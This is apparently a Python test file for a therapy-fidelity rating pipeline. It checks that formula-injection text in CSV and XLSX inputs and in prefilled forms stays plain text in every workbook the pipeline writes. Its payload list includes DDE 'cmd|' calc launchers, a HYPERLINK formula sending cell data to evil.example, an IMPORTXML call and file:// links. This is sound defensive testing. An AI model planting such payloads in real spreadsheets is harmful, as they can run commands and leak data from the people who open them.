"""Text that begins like a formula stays text in every workbook that we write, whatever field it was typed into."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring

from flows.console import Progress
from flows.forms.rating_form import Prefill, write_form
from flows.nightly import run_night
from flows.settings import load_settings
from flows.steps import do_plainly
from schemas.catalog import load_catalog
from schemas.codes import Role
from tests.hostile.books import parts, workbook_xml
from tests.hostile.containers import zip_bytes
from tests.support.intake_sheets import csv_bytes
from tests.support.lab import Lab

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&amp;A1;"4")'.replace("&amp;", "&"),
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML("http://evil.example";"//a")',
    "DDE(server;topic;thing)",
    "|cmd",
    "{=1+1}",
    "http://evil.example/click",
    "file://///evil.example/share",
    "mailto:a@evil.example",
    "'=1+1",
    "\uff1d1+1",
)
REMARKS = (*EVIL, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1")
HEAD = ["session", "rater", "therapist", "patient", "date", "adherence", "competence", "remark"]


def rows() -> Iterator[list[str]]:
    """Ratings with evil ids and remarks: good ones, and one of each that is held."""
    for number, evil in enumerate(EVIL):
        for score in ("4", "9"):
            yield [f"{evil}{score}", evil, evil, evil, "2026-06-01", score, "5", evil]
        yield [f"S-{number}", "R-1", "T-1", "P-1", "2026-06-01", "4", "5", REMARKS[number]]
    for number, remark in enumerate(REMARKS[len(EVIL) :]):
        yield [f"S-r{number}", "R-1", "T-1", remark + "P", "2026-06-01", "4", "5", remark]


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    """Every workbook that a night, and the writing of forms, leave in a lab where all text is evil."""
    home = tmp_path_factory.mktemp("injection") / "home"
    lab = Lab(home, validates=True).draws()
    raw = lab.settings.raw
    raw.mkdir(parents=True)
    teams = [
        ["therapist_id", "team", "supervisor_id"],
        *([evil, evil, evil] for evil in EVIL),
        ["T-1", EVIL[0], "SV-1"],
    ]
    (raw / "therapists.csv").write_bytes(csv_bytes([[f"'{cell}" for cell in row] for row in teams]))
    raters = [["rater_id", "team", "also_written"], *([evil, evil, ""] for evil in EVIL), ["R-1", EVIL[1], ""]]
    (raw / "raters.csv").write_bytes(csv_bytes([[f"'{cell}" for cell in row] for row in raters]))
    table = [HEAD, *rows()]
    for number, evil in enumerate(EVIL):
        name = re.sub(r"[/\0]", "\u2215", evil)[:100]
        few = [HEAD, *([f"{row[0]}{number}"[-60:], *row[1:]] for row in rows() if row[1] == evil)]
        lab.sends(f"{name}.csv", content=csv_bytes([[f"'{cell}" for cell in row] for row in few]))
    book = parts([[cell or None for cell in row] for row in table])
    sheet = book["xl/worksheets/sheet1.xml"].replace(b"<f>", b"<is><t>=").replace(b"</f>", b"</t></is>")
    sheet = re.sub(rb'<c r="(\w+)"><is>', rb'<c r="\1" t="inlineStr"><is>', sheet)
    assert b"<f" not in sheet
    lab.sends("a.xlsx", content=zip_bytes(book | {"xl/worksheets/sheet1.xml": sheet}))
    named = {"xl/workbook.xml": workbook_xml([EVIL[1]]), "xl/worksheets/sheet1.xml": sheet.replace(b"S-", b"Z-")}
    lab.sends("b.xlsx", content=zip_bytes(book | named))
    settings = load_settings(home, settle_seconds=0, lab=EVIL[0], contact=EVIL[2], processes=1)
    now = dt.datetime(2026, 7, 1, 4, 15, tzinfo=dt.UTC)
    run_night(settings, now, now.date(), do_plainly, Progress())
    catalog = load_catalog((settings.own_schemas,))
    (home / "forms").mkdir()
    for number, evil in enumerate(EVIL):
        pair = catalog.latest("pair")
        known = Prefill(evil, evil, evil, evil, dt.date(2026, 6, 1), Role.OBSERVER)
        write_form(pair, catalog.elements_of(pair), home / "forms" / f"{number}.xlsx", known)
    return sorted(path for path in home.rglob("*.xlsx") if "archive" not in path.parts)


def elements(path: Path) -> Iterator[tuple[str, Element]]:
    """Part and element of every XML part of a workbook."""
    with zipfile.ZipFile(path) as packed:
        for name in packed.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                yield from ((name, element) for element in fromstring(packed.read(name)).iter())


def local(element: Element) -> str:
    """An element's name without its space."""
    return element.tag.rpartition("}")[2]


def test_the_night_wrote_every_kind_of_workbook(written: list[Path]) -> None:
    folders = {part for path in written for part in path.parts}
    assert {"supervision", "returned", "forms"} <= folders
    assert any(path.name.startswith("fidelity-summary") for path in written)
    assert len(written) > 2 * len(EVIL)


def test_no_workbook_holds_a_formula_that_came_from_text(written: list[Path]) -> None:
    for path in written:
        for part, element in elements(path):
            text = element.text or ""
            if local(element) == "f" and part.startswith("xl/worksheets"):
                # what we calculate ourselves, such as how many cells of a form are still blank, names cells and no text
                assert "forms" in path.parts, (path, part, text)
                assert not any(evil in text for evil in EVIL), (path, part, text)
            if local(element) in ("formula1", "formula2", "definedName", "oddHeader", "oddFooter"):
                assert not any(word in text for word in ("evil", "cmd|", "HYPERLINK", "DDE", "IMPORT")), (
                    path,
                    part,
                    text,
                )


def test_no_workbook_leads_out_of_itself(written: list[Path]) -> None:
    for path in written:
        with zipfile.ZipFile(path) as packed:
            assert not [name for name in packed.namelist() if "externalLink" in name or "connections" in name]
        for part, element in elements(path):
            assert element.get("TargetMode") != "External", (path, part, element.attrib)
            if local(element) == "hyperlink":  # within the workbook, to a cell
                assert re.fullmatch(r"('.*'|\w+)![A-Z]+\d+(:[A-Z]+\d+)?", element.get("location", "")), element.attrib
                assert not [key for key in element.attrib if key.endswith("}id")]
            assert local(element) not in ("ddeLink", "oleLink", "webPublishItem"), (path, part)


def test_what_was_typed_is_still_there_as_text(written: list[Path]) -> None:
    said = {
        element.text for path in written for part, element in elements(path) if local(element) == "t" and element.text
    }
    assert set(EVIL) <= said
